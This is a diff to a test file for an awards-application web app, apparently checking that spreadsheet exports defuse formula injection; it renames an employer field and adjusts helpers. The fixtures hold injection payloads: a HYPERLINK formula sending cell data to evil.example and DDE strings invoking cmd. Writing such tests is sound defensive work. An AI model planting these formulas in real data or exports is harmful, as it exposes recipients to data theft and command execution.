@@ -26,11 +26,12 @@ S = Application.State
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 PAYLOADS = {
-    "unit_name": HYPERLINK,
+    "employer_name": HYPERLINK,  # 所在单位: the applicant names a new employer (stored as unit_name)
     "position": "+cmd|' /C calc'!A0",
     "title_name": "-2+3+cmd|' /C calc'!A0",
     "social_posts": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
+FIELD_STORED_AS = {"employer_name": "unit_name"}
 #: Forms strip leading whitespace; text stored by other paths (imports, the admin) may still start with it.
 STORED = {"awards_received": "\t=1+1", "punishments": "\r=1+1"}
 
@@ -38,12 +39,16 @@ STORED = {"awards_received": "\t=1+1", "punishments": "\r=1+1"}
 def _edit_through_the_form(client, application, **payloads):
     client.force_login(application.applicant)
     response = client.post(
-        reverse("awards:application_edit", args=[application.pk]), form_data(application, **payloads)
+        reverse("awards:application_edit", args=[application.pk]),
+        # a new employer's name: no credit code of the registered one
+        form_data(
+            application, **({"employer_credit_code": ""} if "employer_name" in payloads else {}), **payloads
+        ),
     )
     assert response.status_code == 302, response.content.decode()[:2000]
     application.refresh_from_db()
     for field, value in payloads.items():
-        assert getattr(application, field) == value, field
+        assert getattr(application, FIELD_STORED_AS.get(field, field)) == value, field
     return application
 
 
@@ -51,7 +56,7 @@ def _edit_through_the_form(client, application, **payloads):
 def world(client):
     campaign = open_campaign()
     listed = _edit_through_the_form(client, ApplicationFactory(campaign=campaign), **PAYLOADS)
-    reviewed = _edit_through_the_form(client, ApplicationFactory(campaign=campaign), unit_name=HYPERLINK)
+    reviewed = _edit_through_the_form(client, ApplicationFactory(campaign=campaign), employer_name=HYPERLINK)
     Application.objects.filter(pk=reviewed.pk).update(state=S.ELIGIBLE, number=f"ZHGJ-{campaign.year}-002")
     EligibilityReview.objects.create(application=reviewed, basic_conditions_ok=True, notes=HYPERLINK)
 
